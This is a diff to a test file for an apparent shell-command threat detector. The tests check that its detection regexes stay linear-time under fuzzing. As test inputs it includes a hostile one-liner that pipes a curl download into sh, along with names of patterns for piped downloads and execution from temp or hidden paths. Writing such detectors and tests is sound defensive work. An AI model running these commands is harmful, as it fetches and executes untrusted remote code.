@@ -7,7 +7,8 @@
    its pieces, with each piece call executed by the counting VM: the total work stays under
    64 steps a character and grows linearly from SMALL to BIG;
 3. the former single regexes are caught by the same helper (so the check can fail).
-``make fuzz`` runs 2 and 3 at 1 MiB (HOSTGUARD_FUZZ_BIG)."""
+``make fuzz`` runs 1 and 2 at 1 MiB (HOSTGUARD_FUZZ_BIG; 6 KiB here); the counting VM is the plain
+one made faster (same step count, property-tested below), so 1 MiB lines take minutes, not hours."""
 import os
 import re
 
@@ -29,19 +30,24 @@ MATCH_MODE = {"pipe_to_interp", "subst_download", "chmod_mode", "option", "inter
 @pytest.mark.parametrize("name", sorted(L.PIECES))
 def test_piece_is_linear(name):
     mode = "match" if name in MATCH_MODE else "search"
-    assert RB.check_linear(L.PIECES[name], mode=mode, sizes=(10 * 1024,), factor=FACTOR) == []
+    assert RB.check_linear(L.PIECES[name], mode=mode, sizes=tuple(sorted(set((10 * 1024, BIG)))),
+                           factor=FACTOR) == []
 
 
 class Counting(object):
     """A piece whose every call is also executed by the counting VM (steps added up)."""
 
+    programs = {}     # regex -> VM program, compiled once per run
+
     def __init__(self, regex, counter):
         self.regex = regex
-        self.prog = RB.compile_program(regex)
+        if regex not in self.programs:
+            self.programs[regex] = RB.compile_program(regex)
+        self.prog = self.programs[regex]
         self.counter = counter
 
     def _count(self, text, pos, endpos, mode):
-        _m, steps, _x = RB.run_counted(self.regex, text[pos:endpos], mode, 10 ** 9, self.prog)
+        _m, steps, _x = RB.run_counted(self.regex, text, mode, 10 ** 9, self.prog, pos=pos, endpos=endpos)
         self.counter[0] += steps
 
     def finditer(self, text, pos=0, endpos=None):
@@ -147,3 +153,49 @@ def test_curl_sh_after_a_hostile_run_is_still_found():
     line = "python -c socket " * 235 + "; curl http://e/x | sh"
     names = [n for n, _h in L.match_line(line)]
     assert "download_piped_to_shell" in names
+
+
+# ------------------------------------------------ the fast counting VM is the plain one, faster
+from hypothesis import given, settings, strategies as st  # noqa: E402
+
+_PIECE_NAMES = sorted(L.PIECES)
+_ALPHABET = sorted(set("".join("".join(RB._atom_samples(list(RB.sre_parse.parse(p.pattern)), []))
+                               for p in L.PIECES.values())) | set(" \n-|/.:"))
+
+
+@settings(max_examples=int(os.environ.get("HOSTGUARD_FUZZ_EXAMPLES", 150)), deadline=None)
+@given(st.sampled_from(_PIECE_NAMES), st.text(alphabet=_ALPHABET, max_size=80),
+       st.sampled_from(["match", "search", "findall"]), st.sampled_from([40, 10 ** 6]))
+def test_property_fast_vm_counts_like_the_plain_vm(name, text, mode, budget):
+    """Same (matched, steps, exhausted) as the one-instruction-a-turn VM, on any text, in
+    every mode, with and without running out of budget: the 1 MiB figures count the same work."""
+    regex = L.PIECES[name]
+    prog = RB.compile_program(regex)
+    assert RB.run_counted(regex, text, mode, budget, prog) == \
+        RB.run_counted(regex, text, mode, budget, prog, reference=True)
+    cut = len(text) // 3
+    assert RB.run_counted(regex, text, mode, budget, prog, pos=cut, endpos=len(text) - cut) == \
+        RB.run_counted(regex, text[cut:len(text) - cut], mode, budget, prog, reference=True)
+    if mode != "findall" and budget > 1000:
+        assert RB.run_counted(regex, text, mode, budget, prog)[0] == bool(
+            (regex.match if mode == "match" else regex.search)(text)) or "\\b" in regex.pattern
+
+
+@pytest.mark.parametrize("name", ["exec_from_temp_dir", "exec_from_hidden_path"])
+def test_command_words_are_sliced_in_linear_total(name, monkeypatch):
+    """Issue 17: 64 KiB of ``&`` is 64 Ki command starts inside one token; each word used to be
+    sliced to the token's end (quadratic Python work the regex count does not see). Counted:
+    the characters of all words handed to the checks stay linear in the line."""
+    line = "&" * (64 * 1024)
+    sliced = [0]
+    real = L._word
+
+    def counting(text, start, end):
+        out = real(text, start, end)
+        sliced[0] += len(out[1])
+        return out
+    monkeypatch.setattr(L, "_word", counting)
+    getattr(L, name)(line, line)
+    assert sliced[0] <= 2 * len(line), sliced[0]
+    line = "&/tmp/x" * (8 * 1024)                   # words that matter are still whole
+    assert getattr(L, name)(line, line) or name == "exec_from_hidden_path"
